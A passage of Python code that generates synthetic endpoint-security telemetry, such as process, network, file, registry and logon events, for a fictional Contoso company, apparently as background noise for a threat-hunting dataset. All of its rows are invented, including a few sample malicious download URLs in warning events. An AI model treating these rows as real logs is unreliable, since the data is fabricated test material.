    ex = proc(w, rng, dev, "explorer.exe", r"C:\WINDOWS\Explorer.EXE", acct, day_floor(t) + 7 * HOUR + rng.randint(0, 2 * HOUR), parent_name="userinit.exe")
    sysacct = w.system
    if dev.server and rng.chance(0.6):
        svc = proc(w, rng, dev, "services.exe", r"C:\Windows\system32\services.exe", sysacct, t - 5 * DAY, parent_name="wininit.exe")
        choice = rng.choice(["svchost", "msiexec", "sql", "sense"])
        if choice == "sql" and dev.short == "srv-sql-03":
            return svc, proc(w, rng, dev, "sqlservr.exe", q(w.exe["sqlservr.exe"]["path"]) + " -sMSSQLSERVER", w.svc_sql, t, svc)
        if choice == "msiexec":
            return svc, proc(w, rng, dev, "msiexec.exe", r"C:\Windows\system32\msiexec.exe /V", sysacct, t, svc)
        if choice == "sense":
            s = proc(w, rng, dev, "MsSense.exe", q(w.exe["MsSense.exe"]["path"]), sysacct, t - 4 * DAY, svc)
            return s, proc(w, rng, dev, "SenseIR.exe", f'"SenseIR.exe" "OnlineSenseIR" "{rng.guid()}"', sysacct, t, s)
        return svc, proc(w, rng, dev, "svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s " + rng.choice(["Schedule", "Winmgmt", "wuauserv", "BITS", "gpsvc"]), sysacct, t, svc)
    r = rng.random()
    if dev.server:  # no Office, browsers or chat on servers: admin tools and system work
        r = rng.choice([0.60, 0.70, 0.72, 0.78, 0.83, 0.88, 0.95])
    if r < 0.12:
        return ex, proc(w, rng, dev, "msedge.exe", q(w.exe["msedge.exe"]["path"]) + f" --single-argument https://{rng.choice(BROWSING)}/", acct, t, ex)
    if r < 0.22:
        edge = proc(w, rng, dev, "msedge.exe", q(w.exe["msedge.exe"]["path"]), acct, t - 2 * HOUR, ex)
        return edge, proc(w, rng, dev, "msedge.exe", q(w.exe["msedge.exe"]["path"]) + f" --type=renderer --lang=en-US --renderer-client-id={rng.randint(5, 90)} --field-trial-handle=2040,i,{rng.getrandbits(60)},{rng.getrandbits(60)},262144 /prefetch:1", acct, t, edge)
    if r < 0.30:
        return ex, proc(w, rng, dev, "chrome.exe", q(w.exe["chrome.exe"]["path"]), acct, t, ex)
    if r < 0.38:
        return ex, proc(w, rng, dev, "OUTLOOK.EXE", q(w.exe["OUTLOOK.EXE"]["path"]), acct, t, ex)
    if r < 0.45:
        doc = rng.choice(["Q3 forecast", "Budget 2026", "Board minutes", "Onboarding checklist", "Travel policy"])
        return ex, proc(w, rng, dev, "WINWORD.EXE", q(w.exe["WINWORD.EXE"]["path"]) + f' /n "C:\\Users\\{u}\\OneDrive - Contoso\\Documents\\{doc}.docx" /o ""', acct, t, ex)
    if r < 0.51:
        doc = rng.choice(["Expenses Oct", "Pipeline", "Headcount", "Invoices 2025"])
        return ex, proc(w, rng, dev, "EXCEL.EXE", q(w.exe["EXCEL.EXE"]["path"]) + f' "C:\\Users\\{u}\\OneDrive - Contoso\\Documents\\{doc}.xlsx"', acct, t, ex)
    if r < 0.58:
        return ex, proc(w, rng, dev, "ms-teams.exe", '"ms-teams.exe" msteams:system-initiated', acct, t, ex)
    if r < 0.62:
        return ex, proc(w, rng, dev, "notepad.exe", f'"C:\\Windows\\system32\\NOTEPAD.EXE" C:\\Users\\{u}\\Desktop\\notes.txt', acct, t, ex)
    if r < 0.66:
        return ex, proc(w, rng, dev, "Acrobat.exe", q(w.exe["Acrobat.exe"]["path"]) + f' "C:\\Users\\{u}\\Downloads\\statement_{rng.randint(1000, 9999)}.pdf"', acct, t, ex)
    if r < 0.74 and (dev.server or acct is w.admin or (acct in w.users and w.users.index(acct) in (3, 5, 7, 15))):
        cmd = proc(w, rng, dev, "cmd.exe", r'"C:\Windows\system32\cmd.exe" ', acct, t - 20 * MINUTE, ex)
        c = rng.choice([("git.exe", "git  pull --rebase"), ("git.exe", "git  status"),
                        ("python.exe", "python  -m pip install --upgrade requests"),
                        ("ipconfig.exe", "ipconfig  /all"), ("Code.exe", "code  .")] if not dev.server else
                       [("ipconfig.exe", "ipconfig  /all"), ("schtasks.exe", "schtasks  /query /fo LIST /v"),
                        ("net.exe", "net  share"), ("whoami.exe", "whoami  /priv")])
        return cmd, proc(w, rng, dev, c[0], c[1], acct, t, cmd)
    if r < 0.80:
        svc = proc(w, rng, dev, "svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule", sysacct, t - 2 * DAY, parent_name="services.exe")
        return svc, proc(w, rng, dev, "taskhostw.exe", "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly", acct, t, svc)
    if r < 0.86:
        svc = proc(w, rng, dev, "svchost.exe", r"C:\Windows\system32\svchost.exe -k DcomLaunch -p", sysacct, t - 2 * DAY, parent_name="services.exe")
        return svc, proc(w, rng, dev, "WmiPrvSE.exe", r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", w.network_service, t, svc)
    if r < 0.91:
        s = proc(w, rng, dev, "MsSense.exe", q(w.exe["MsSense.exe"]["path"]), sysacct, t - 3 * DAY, parent_name="services.exe")
        return s, proc(w, rng, dev, "powershell.exe",
                       "powershell.exe -ExecutionPolicy AllSigned -NoProfile -NonInteractive -Command \"& {$OutputEncoding = [Console]::OutputEncoding =[System.Text.Encoding]::UTF8;"
                       f"$scriptFileStream = [System.IO.File]::Open('C:\\ProgramData\\Microsoft\\Windows Defender Advanced Threat Protection\\DataCollection\\8760.{rng.randint(1000000, 9999999)}\\{rng.guid()}.ps1', [System.IO.FileMode]::Open, [System.IO.FileAccess]::Read, [System.IO.FileShare]::Read)}}\"",
                       sysacct, t, s)
    svc = proc(w, rng, dev, "svchost.exe", r"C:\Windows\system32\svchost.exe -k LocalSystemNetworkRestricted -p -s WSearch", sysacct, t - 2 * DAY, parent_name="services.exe")
    return svc, proc(w, rng, dev, "SearchProtocolHost.exe", f'"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe{rng.randint(10, 99)}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{rng.randint(10, 99)} 1 -2147483646 "Software\\Microsoft\\Windows Search"', sysacct, t, svc)


def fill_process(w: World, rng: Rng) -> list[dict]:
    dev = rng.choice(w.devices)
    t = w.rand_time(rng)
    acct = w.user_of(dev, rng)
    parent, child = user_launch(w, rng, dev, acct, t)
    row = dev_row(w, "DeviceProcessEvents", dev, t)
    row.update(initiating(parent))
    row.update(subject(child))
    row["ActionType"] = "ProcessCreated"
    if rng.chance(0.15):
        row["AdditionalFields"] = {"ProcessPosixProcessGroupId": child.pid} if not dev.windows else \
            {"ProcessRemoteSessionIP": "", "ProcessTokenElevationType": child.elevation}
    return [row]


def ip_type(ip: str) -> str:
    if ip.startswith("::ffff:"):
        return "FourToSixMapping"
    if ip.startswith(("10.", "192.168.", "172.16.", "fd")) or ip.startswith("fe80:"):
        return "Private"
    if ip.startswith(("127.", "::1")):
        return "Loopback"
    return "Public"


def v6_of(dev: Device) -> str:
    _, b, c, d = dev.ip.split(".")
    return f"2001:db8:{c}:{b}::{int(d):x}"


def net_row(w: World, rng: Rng, dev: Device, t: int, p: Proc, action: str, remote_ip: str,
            remote_port, url: str = "", proto: str = "Tcp", inbound: bool = False) -> dict:
    row = dev_row(w, "DeviceNetworkEvents", dev, t)
    row.update(initiating(p))
    local = dev.ip
    if ":" in remote_ip and not remote_ip.startswith("::ffff:"):
        local = v6_of(dev)
    elif rng.chance(0.1) and remote_ip and dev.windows:
        local, remote_ip = "::ffff:" + dev.ip, "::ffff:" + remote_ip
    lport = remote_port if inbound else rng.randint(49152, 65535)
    rport = rng.randint(49152, 65535) if inbound else remote_port
    row.update({"ActionType": action, "LocalIP": local, "LocalIPType": ip_type(local),
                "LocalPort": lport, "RemoteIP": remote_ip,
                "RemoteIPType": ip_type(remote_ip) if remote_ip else "",
                "RemotePort": rport if remote_ip else None, "RemoteUrl": url, "Protocol": proto})
    return row


def fill_network(w: World, rng: Rng) -> list[dict]:
    dev = rng.choice(w.devices)
    t = w.rand_time(rng)
    acct = w.user_of(dev, rng)
    r = rng.random()
    if dev.short == "web-01" and r < 0.5:
        nginx = proc(w, rng, dev, "nginx", "nginx: worker process", Account("www-data", "web-01", ""), t - 6 * DAY, parent_name="nginx")
        src = f"{rng.choice([81, 86, 92, 145, 176, 188])}.{rng.randint(1, 254)}.{rng.randint(1, 254)}.{rng.randint(1, 254)}"
        return [net_row(w, rng, dev, t, nginx, "InboundConnectionAccepted", src, 443, inbound=True)]
    if dev.server and r < 0.3:
        svc = proc(w, rng, dev, "svchost.exe", r"C:\Windows\system32\svchost.exe -k NetworkService -p -s Dnscache", w.network_service, t - 3 * DAY, parent_name="services.exe")
        if rng.chance(0.2):
            row = net_row(w, rng, dev, t, svc, "ListeningConnectionCreated", "", 0, inbound=True)
            row["LocalPort"] = rng.choice([3389, 5985, 445, 1433, 135])
            return [row]
        return [net_row(w, rng, dev, t, svc, "ConnectionSuccess", "10.1.0.10", 53, proto="Udp")]
    parent, child = user_launch(w, rng, dev, acct, t - rng.randint(1, 600) * TICKS)
    p = child if child.exe["name"] in ("msedge.exe", "chrome.exe", "OUTLOOK.EXE", "ms-teams.exe",
                                       "OneDrive.exe", "git.exe", "python.exe", "curl", "python3.12",
                                       "Google Chrome", "Figma", "MsSense.exe", "SenseIR.exe",
                                       "svchost.exe", "Code.exe", "Acrobat.exe") else parent
    name = p.exe["name"]
    dom = {"msedge.exe": None, "chrome.exe": None, "Google Chrome": None,
           "OUTLOOK.EXE": "outlook.office365.com", "ms-teams.exe": "teams.microsoft.com",
           "OneDrive.exe": "contoso-my.sharepoint.com", "git.exe": "github.com",
           "python.exe": rng.choice(["pypi.org", "files.pythonhosted.org"]),
           "curl": "api.github.com", "python3.12": "archive.ubuntu.com", "Figma": "www.google.com",
           "MsSense.exe": "winatp-gw-weu.microsoft.com", "SenseIR.exe": "winatp-gw-weu.microsoft.com",
           "svchost.exe": "settings-win.data.microsoft.com", "Code.exe": "github.com",
           "Acrobat.exe": "www.bing.com"}.get(name) or rng.choice(BROWSING)
    if name in ("explorer.exe", "services.exe", "cron", "sshd", "launchd", "bash", "svchost.exe") and rng.chance(0.5):
        # internal traffic: SMB to the file server, LDAP/Kerberos to the DC
        tgt, port = rng.choice([("10.1.0.20", 445), ("10.1.0.10", 389), ("10.1.0.10", 88), ("10.1.0.30", 1433)])
        return [net_row(w, rng, dev, t, p, "ConnectionSuccess", tgt, port)]
    ips = DOMAINS[dom]
    ip = ips[1] if len(ips) > 1 and rng.chance(0.3) else ips[0]
    action = rng.wpick([(80, "ConnectionSuccess"), (6, "ConnectionFailed"), (4, "ConnectionRequest"),
                        (5, "SslConnectionInspected"), (3, "HttpConnectionInspected"), (2, "DnsConnectionInspected")])
    port = 80 if action == "HttpConnectionInspected" else 443
    row = net_row(w, rng, dev, t, p, action, ip, port, dom)
    if action == "SslConnectionInspected":
        row["AdditionalFields"] = {"version": "TLS 1.3" if rng.chance(0.7) else "TLS 1.2", "client_cipher": "TLS_AES_256_GCM_SHA384",
                                   "server_name": dom, "direction": "Out", "established": True}
    elif action == "HttpConnectionInspected":
        row["AdditionalFields"] = {"direction": "Out", "host": dom, "method": "GET", "status_code": "200",
                                   "uri": "/", "user_agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"}
    elif action == "DnsConnectionInspected":
        row.update({"RemoteIP": "10.1.0.10", "RemoteIPType": "Private", "RemotePort": 53, "Protocol": "Udp"})
        row["AdditionalFields"] = {"direction": "Out", "query": dom, "qtype": 1, "qtype_name": "A", "rcode": 0, "rcode_name": "NOERROR"}
    return [row]


def file_row(w: World, dev: Device, t: int, p: Proc, action: str, folder: str, name: str, size=None) -> dict:
    row = dev_row(w, "DeviceFileEvents", dev, t)
    row.update(initiating(p))
    sep = "/" if folder.startswith("/") else "\\"
    md5, sha1, sha256 = hashes(folder + name + str(size))
    row.update({"ActionType": action, "FileName": name, "FolderPath": folder + sep + name,
                "FileSize": size, "MD5": md5, "SHA1": sha1, "SHA256": sha256})
    ftype = {"exe": "PortableExecutable", "dll": "PortableExecutable", "pdf": "Pdf", "docx": "Docx", "xlsx": "Xlsx",
             "docm": "Docm", "xlsm": "Xlsm", "msi": "Msi", "dmp": "Dmp"}.get(name.rsplit(".", 1)[-1].lower())
    if ftype and action in ("FileCreated", "FileModified"):
        row["AdditionalFields"] = {"FileType": ftype}
    return row


def fill_file(w: World, rng: Rng) -> list[dict]:
    dev = rng.choice(w.devices)
    t = w.rand_time(rng)
    acct = w.user_of(dev, rng)
    u = acct.name
    if dev.platform == "Linux":
        parent, child = user_launch(w, rng, dev, w.root, t)
        r = file_row(w, dev, t, child, rng.choice(["FileCreated", "FileModified"]), "/var/www/contoso/cache", f"sess_{rng.hexs(26)}", rng.randint(80, 900))
        return [r]
    if dev.short == "srv-file-02" and rng.chance(0.7):
        sysp = proc(w, rng, dev, "System", "", w.system, t - 9 * DAY, parent_name="")
        who = rng.choice(w.users[:3] + [w.users[10]])
        src = next((d for d in w.devices if d.owner is who), w.dev["ws-fin-042"])
        share = "Finance" if who.dept == "Finance" else "HR"
        name = rng.choice(["Budget 2026.xlsx", "Payroll Oct.xlsx", "Vendors.docx", "Q3 forecast.xlsx", "Offer letter.docx"])
        r = file_row(w, dev, t, sysp, rng.choice(["FileModified", "FileCreated", "FileModified"]), f"D:\\Shares\\{share}", name, rng.randint(20000, 900000))
        r.update({"RequestAccountName": who.name, "RequestAccountDomain": "CONTOSO", "RequestAccountSid": who.sid,
                  "RequestProtocol": "SMB", "RequestSourceIP": src.ip, "RequestSourcePort": rng.randint(49152, 65535),
                  "ShareName": share, "SensitivityLabel": "Confidential" if share == "HR" else "General",
                  "SensitivitySubLabel": "", "IsAzureInfoProtectionApplied": share == "HR"})
        return [r]
    parent, child = user_launch(w, rng, dev, acct, t - rng.randint(5, 900) * TICKS)
    k = rng.random()
    if k < 0.35:
        edge = proc(w, rng, dev, "msedge.exe", q(w.exe["msedge.exe"]["path"]), acct, t - HOUR, parent_name="explorer.exe")
        dom = rng.choice(["www.fabrikam.com", "portal.northwindtraders.com", "github.com"])
        name = rng.choice([f"invoice_{rng.randint(10000, 99999)}.pdf", "release-notes.pdf", f"statement_{rng.randint(1000, 9999)}.pdf", "setup-2.4.1.msi"])
        r = file_row(w, dev, t, edge, "FileCreated", f"C:\\Users\\{u}\\Downloads", name, rng.randint(40000, 9000000))
        r.update({"FileOriginUrl": f"https://{dom}/downloads/{name}", "FileOriginReferrerUrl": f"https://{dom}/",
                  "FileOriginIP": DOMAINS[dom][0]})
        return [r]
    if k < 0.55:
        outl = proc(w, rng, dev, "OUTLOOK.EXE", q(w.exe["OUTLOOK.EXE"]["path"]), acct, t - 2 * HOUR, parent_name="explorer.exe")
        name = rng.choice(["Agenda.docx", "Minutes.pdf", "Price list.xlsx", "image001.png"])
        return [file_row(w, dev, t, outl, "FileCreated", f"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{rng.hexs(8, True)}", name, rng.randint(3000, 400000))]
    if k < 0.75:
        od = proc(w, rng, dev, "OneDrive.exe", q(w.exe["OneDrive.exe"]["path"]) + " /background", acct, t - DAY, parent_name="explorer.exe")
        name = rng.choice(["Q3 forecast.docx", "Budget 2026.xlsx", "Team photo.jpg", "Roadmap.pptx"])
        r = file_row(w, dev, t, od, "FileModified", f"C:\\Users\\{u}\\OneDrive - Contoso\\Documents", name, rng.randint(20000, 3000000))
        if rng.chance(0.4):
            r.update({"SensitivityLabel": "Confidential", "SensitivitySubLabel": "Internal only", "IsAzureInfoProtectionApplied": True})
        else:
            r["IsAzureInfoProtectionApplied"] = False
        return [r]
    if k < 0.88:
        name = f"~WRL{rng.randint(1000, 9999)}.tmp"
        return [file_row(w, dev, t, child, "FileDeleted", f"C:\\Users\\{u}\\AppData\\Local\\Temp", name, None)]
    old = f"New Document {rng.randint(1, 9)}.docx"
    new = rng.choice(["Contract draft.docx", "Notes.docx", "Proposal v2.docx"])
    r = file_row(w, dev, t, parent, "FileRenamed", f"C:\\Users\\{u}\\Documents", new, rng.randint(12000, 90000))
    r.update({"PreviousFileName": old, "PreviousFolderPath": f"C:\\Users\\{u}\\Documents\\{old}"})
    return [r]


def fill_registry(w: World, rng: Rng) -> list[dict]:
    dev = rng.choice([d for d in w.devices if d.windows])
    t = w.rand_time(rng)
    acct = w.user_of(dev, rng)
    row = dev_row(w, "DeviceRegistryEvents", dev, t)
    k = rng.random()
    if k < 0.3:
        p = proc(w, rng, dev, "svchost.exe", r"C:\Windows\system32\svchost.exe -k DcomLaunch -p", w.system, t - 2 * DAY, parent_name="services.exe")
        exe = rng.choice(["msedge.exe", "OUTLOOK.EXE", "ms-teams.exe", "notepad.exe", "EXCEL.EXE"])
        key = f"HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\bam\\State\\UserSettings\\{acct.sid}"
        vals = ("RegistryValueSet", key, "\\Device\\HarddiskVolume3" + w.exe[exe]["path"][2:], "Binary",
                rng.hexs(48, True), rng.hexs(48, True))
    elif k < 0.5:
        p = proc(w, rng, dev, "MsMpEng.exe", q(w.exe["MsMpEng.exe"]["path"]), w.system, t - 3 * DAY, parent_name="services.exe")
        vals = ("RegistryValueSet", r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows Defender\Signature Updates",
                "AVSignatureVersion", "String", f"1.441.{rng.randint(100, 500)}.0", f"1.441.{rng.randint(1, 99)}.0")
    elif k < 0.7:
        p = proc(w, rng, dev, "OneDrive.exe", q(w.exe["OneDrive.exe"]["path"]) + " /background", acct, t - DAY, parent_name="explorer.exe")
        vals = ("RegistryValueSet", f"HKEY_CURRENT_USER\\{acct.sid}\\Software\\Microsoft\\OneDrive\\Accounts\\Business1",
                "LastSignInTime", "Qword", str(rng.randint(1762000000, 1763200000)), "")
    elif k < 0.85:
        p = proc(w, rng, dev, "explorer.exe", r"C:\WINDOWS\Explorer.EXE", acct, t - HOUR, parent_name="userinit.exe")
        vals = ("RegistryKeyCreated", f"HKEY_CURRENT_USER\\{acct.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.docx", "", "", "", "")
    else:
        p = proc(w, rng, dev, "svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule", w.system, t - 2 * DAY, parent_name="services.exe")
        task = rng.choice(["Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan", "Microsoft\\Office\\Office Automatic Updates 2.0"])
        vals = (rng.choice(["RegistryValueDeleted", "RegistryKeyDeleted"]),
                f"HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\{task}", "Id", "String", "", "{" + rng.guid().upper() + "}")
    action, key, vname, vtype, data, prev = vals
    row.update(initiating(p))
    row.update({"ActionType": action, "RegistryKey": key, "RegistryValueName": vname,
                "RegistryValueType": vtype, "RegistryValueData": data,
                "PreviousRegistryKey": key if action == "RegistryValueSet" else "",
                "PreviousRegistryValueName": vname if prev else "", "PreviousRegistryValueData": prev})
    if action in ("RegistryKeyCreated", "RegistryKeyDeleted"):
        row.update({"RegistryValueName": "", "RegistryValueType": "", "PreviousRegistryValueName": "", "PreviousRegistryValueData": ""})
    return [row]


def logon_row(w: World, rng: Rng, dev: Device, t: int, acct: Account, action: str, ltype: str,
              protocol: str = "", remote_ip: str = "", remote_name: str = "", p: Proc | None = None,
              failure: str = "") -> dict:
    row = dev_row(w, "DeviceLogonEvents", dev, t)
    if p is None:
        exe = "lsass.exe" if ltype in ("Network", "Batch", "Service") else "winlogon.exe"
        if not dev.windows:
            exe = "sshd"
        p = proc(w, rng, dev, exe, {"lsass.exe": r"C:\Windows\system32\lsass.exe", "winlogon.exe": "winlogon.exe",
                                     "sshd": "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"}[exe],
                 w.system if dev.windows else w.root, t - 5 * DAY, parent_name="wininit.exe" if dev.windows else "systemd")
    row.update(initiating(p))
    row.update({"ActionType": action, "AccountName": acct.name, "AccountDomain": acct.domain,
                "AccountSid": acct.sid, "LogonType": ltype, "Protocol": protocol,
                "FailureReason": failure, "RemoteIP": remote_ip,
                "RemoteIPType": ip_type(remote_ip) if remote_ip else "",
                "RemotePort": rng.randint(49152, 65535) if remote_ip else None,
                "RemoteDeviceName": remote_name,
                "LogonId": None if action == "LogonFailed" or not dev.windows else dev.logon_base + rng.randint(1, 50000),
                "IsLocalAdmin": acct in (w.admin, w.svc_backup) or acct is w.root})
    if ltype in ("Interactive", "Unlock", "CachedInteractive", "RemoteInteractive") and dev.windows:
        row["AdditionalFields"] = {"IsLocalLogon": ltype != "RemoteInteractive"}
    return row


def fill_logon(w: World, rng: Rng) -> list[dict]:
    dev = rng.choice(w.devices)
    t = w.rand_time(rng)
    if dev.platform == "Linux":
        ip = rng.choice(["10.1.9.21", "10.1.6.103"])
        return [logon_row(w, rng, dev, t, Account("adm-jberg", "web-01", ""), "LogonSuccess", "Network", "", ip, "")]
    if dev.platform == "macOS":
        return [logon_row(w, rng, dev, t, Account(dev.owner.name, dev.short, "", dev.owner.upn, dev.owner.oid),
                          "LogonSuccess", "Interactive", "", "", "", proc(w, rng, dev, "launchd", "/sbin/launchd", w.root, t - 3 * DAY, parent_name="kernel_task"))]
    if dev.server:
        if dev.short == "srv-rds-01":
            u = rng.choice(w.users)
            home = f"{rng.choice([81, 86, 92])}.{rng.randint(1, 254)}.{rng.randint(1, 254)}.{rng.randint(1, 254)}"
            return [logon_row(w, rng, dev, t, u, "LogonSuccess", "RemoteInteractive", "Negotiate", home, "")]
        r = rng.random()
        if r < 0.5:
            u = rng.choice(w.users)
            src = next((d for d in w.devices if d.owner is u), None) or w.dev["srv-rds-01"]
            return [logon_row(w, rng, dev, t, u, "LogonSuccess", "Network", "Kerberos", src.ip, src.short.upper())]
        if r < 0.7:
            a = w.svc_sql if dev.short == "srv-sql-03" else w.svc_backup
            return [logon_row(w, rng, dev, t, a, "LogonSuccess", "Service" if a is w.svc_sql else "Batch", "Negotiate")]
        if r < 0.85:
            return [logon_row(w, rng, dev, t, w.admin, "LogonSuccess", "RemoteInteractive", "Kerberos", "10.1.9.21", "SRV-RDS-01")]
        return [logon_row(w, rng, dev, t, w.system, "LogonSuccess", "Service", "Negotiate")]
    u = dev.owner
    r = rng.random()
    if r < 0.1:
        # the source side of an RDP session: mstsc.exe run by the user
        ex = proc(w, rng, dev, "explorer.exe", r"C:\WINDOWS\Explorer.EXE", u, day_floor(t) + 7 * HOUR, parent_name="userinit.exe")
        ms = proc(w, rng, dev, "mstsc.exe", '"C:\\WINDOWS\\system32\\mstsc.exe" /v:srv-rds-01.contoso.local', u, t - 3 * TICKS, ex)
        return [logon_row(w, rng, dev, t, u, "LogonAttempted", "RemoteInteractive", "Negotiate", "10.1.9.21", "srv-rds-01.contoso.local", ms)]
    if r < 0.14:   # a mistyped password, then the user gets in
        return [logon_row(w, rng, dev, t, u, "LogonFailed", "Unlock", "Negotiate", failure="InvalidUserNameOrPassword"),
                logon_row(w, rng, dev, w.fix(t + rng.randint(5, 40) * TICKS), u, "LogonSuccess", "Unlock", "Negotiate")]
    ltype = rng.wpick([(40, "Unlock"), (30, "Interactive"), (10, "CachedInteractive"), (20, "Network")])
    if ltype == "Network":
        return [logon_row(w, rng, dev, t, w.admin if rng.chance(0.3) else u, "LogonSuccess", "Network", "Kerberos", "10.1.0.10", "SRV-DC-01")]
    return [logon_row(w, rng, dev, t, u, "LogonSuccess", ltype, "Kerberos" if ltype != "CachedInteractive" else "Negotiate")]


def fill_imageload(w: World, rng: Rng) -> list[dict]:
    dev = rng.choice([d for d in w.devices if d.windows])
    t = w.rand_time(rng)
    acct = w.user_of(dev, rng)
    path, host = rng.choice(DLLS)
    if host == "lsass.exe":
        p = proc(w, rng, dev, "lsass.exe", r"C:\Windows\system32\lsass.exe", w.system, t - 6 * DAY, parent_name="wininit.exe")
    elif host in ("svchost.exe", "MsSense.exe"):
        p = proc(w, rng, dev, host, q(w.exe[host]["path"]), w.system, t - 2 * DAY, parent_name="services.exe")
    else:
        p = proc(w, rng, dev, host, q(w.exe[host]["path"]), acct, t - rng.randint(1, 30) * TICKS, parent_name="explorer.exe")
    row = dev_row(w, "DeviceImageLoadEvents", dev, t)
    row.update(initiating(p))
    name = path.rsplit("\\", 1)[1]
    md5, sha1, sha256 = hashes(path)
    row.update({"ActionType": "ImageLoaded", "FileName": name, "FolderPath": path,
                "FileSize": 40000 + int(sha1[:5], 16), "MD5": md5, "SHA1": sha1, "SHA256": sha256})
    return [row]


def fill_devevent(w: World, rng: Rng) -> list[dict]:
    dev = rng.choice([d for d in w.devices if d.windows])
    t = w.rand_time(rng)
    acct = w.user_of(dev, rng)
    row = dev_row(w, "DeviceEvents", dev, t)
    u = acct.name
    action = rng.wpick([(14, "DnsQueryResponse"), (12, "PowerShellCommand"), (8, "ScheduledTaskCreated"),
                        (6, "SmartScreenUrlWarning"), (8, "BrowserLaunchedToOpenUrl"), (8, "NamedPipeEvent"),
                        (5, "ProcessCreatedUsingWmiQuery"), (6, "LdapSearch"), (4, "UsbDriveMounted"),
                        (4, "FirewallInboundConnectionBlocked"), (3, "AntivirusDetection"),
                        (2, "ServiceInstalled"), (2, "TamperingAttempt"), (2, "ExploitGuardNetworkProtectionBlocked"),
                        (1, "UserAccountCreated"), (4, "OpenProcessApiCall")])
    sysacct = w.system
    if action == "DnsQueryResponse":
        p = proc(w, rng, dev, "svchost.exe", r"C:\Windows\system32\svchost.exe -k NetworkService -p -s Dnscache", w.network_service, t - 3 * DAY, parent_name="services.exe")
        dom = rng.choice(list(DOMAINS))
        row["AdditionalFields"] = {"DnsQueryString": dom, "DnsQueryResult": [{"DnsQueryType": "A" if ":" not in a else "AAAA", "Address": a} for a in DOMAINS[dom]]}
        row.update({"RemoteIP": "10.1.0.10", "RemotePort": 53, "LocalIP": dev.ip, "LocalPort": rng.randint(49152, 65535)})
    elif action == "PowerShellCommand":
        parent = proc(w, rng, dev, "MsSense.exe", q(w.exe["MsSense.exe"]["path"]), sysacct, t - 3 * DAY, parent_name="services.exe")
        p = proc(w, rng, dev, "powershell.exe", "powershell.exe -ExecutionPolicy AllSigned -NoProfile -NonInteractive", sysacct, t - 2 * TICKS, parent)
        row["AdditionalFields"] = {"Command": rng.choice(["Get-ItemProperty", "Get-CimInstance", "Test-Path", "Get-Service", "Out-String", "Get-WinEvent"])}
    elif action == "ScheduledTaskCreated":
        p = proc(w, rng, dev, "svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule", sysacct, t - 2 * DAY, parent_name="services.exe")
        name = rng.choice(["\\Microsoft\\Office\\Office Automatic Updates 2.0", "\\GoogleUpdateTaskMachineUA{" + rng.guid().upper() + "}",
                           "\\OneDrive Reporting Task-" + acct.sid])
        row["AdditionalFields"] = {"TaskName": name, "TaskContent": '<?xml version="1.0" encoding="UTF-16"?><Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Triggers><TimeTrigger><Repetition><Interval>PT1H</Interval></Repetition></TimeTrigger></Triggers></Task>'}
        row.update({"AccountName": acct.name, "AccountDomain": acct.domain, "AccountSid": acct.sid})
    elif action in ("SmartScreenUrlWarning", "BrowserLaunchedToOpenUrl", "ExploitGuardNetworkProtectionBlocked"):
        if action == "BrowserLaunchedToOpenUrl":
            p = proc(w, rng, dev, "OUTLOOK.EXE", q(w.exe["OUTLOOK.EXE"]["path"]), acct, t - HOUR, parent_name="explorer.exe")
            url = f"https://{rng.choice(['contoso.sharepoint.com/sites/Finance', 'www.fabrikam.com/orders', 'teams.microsoft.com/l/meetup-join'])}/{rng.hexs(8)}"
        else:
            p = proc(w, rng, dev, "msedge.exe", q(w.exe["msedge.exe"]["path"]), acct, t - HOUR, parent_name="explorer.exe")
            url = rng.choice(["http://free-pdf-converter.example-downloads.net/setup.exe", "https://bestprice-offers.biz/win"])
        row["RemoteUrl"] = url
        if action == "SmartScreenUrlWarning":
            row["AdditionalFields"] = {"Experience": rng.choice(["Malicious", "Phishing", "Untrusted"])}
        elif action == "ExploitGuardNetworkProtectionBlocked":
            row.update({"RemoteIP": "198.51.100.7", "RemotePort": 443, "AdditionalFields": {"ResponseCategory": "CustomPolicy", "DisplayName": "Block untrusted downloads", "IsAudit": False}})
    elif action == "NamedPipeEvent":
        p = proc(w, rng, dev, rng.choice(["ms-teams.exe", "msedge.exe", "Code.exe"]), "", acct, t - HOUR, parent_name="explorer.exe")
        p.cmd = q(p.exe["path"])
        row["AdditionalFields"] = {"FileOperation": "File created", "NamedPipeEnd": "Server",
                                   "PipeName": f"\\Device\\NamedPipe\\mojo.{p.pid}.{rng.randint(1000, 99999)}.{rng.getrandbits(63)}",
                                   "ThreadId": rng.randint(1000, 30000), "DesiredAccess": 1180063, "ShareMode": 3}
    elif action == "ProcessCreatedUsingWmiQuery":
        p = proc(w, rng, dev, "WmiPrvSE.exe", r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", w.network_service, t - HOUR, parent_name="svchost.exe")
        c = proc(w, rng, dev, "msiexec.exe", r"C:\Windows\system32\msiexec.exe /i C:\Windows\ccmcache\3\ContosoAgent.msi /qn", sysacct, t, p)
        s = subject(c)
        row.update({k: s[k] for k in ("FileName", "FolderPath", "FileSize", "SHA1", "SHA256", "MD5", "ProcessCommandLine",
                                      "ProcessId", "ProcessCreationTime", "ProcessTokenElevation", "AccountName", "AccountDomain", "AccountSid", "LogonId")})
        row["AdditionalFields"] = {"Namespace": "root\\cimv2", "ClassName": "Win32_Process", "Method": "Create"}
    elif action == "LdapSearch":
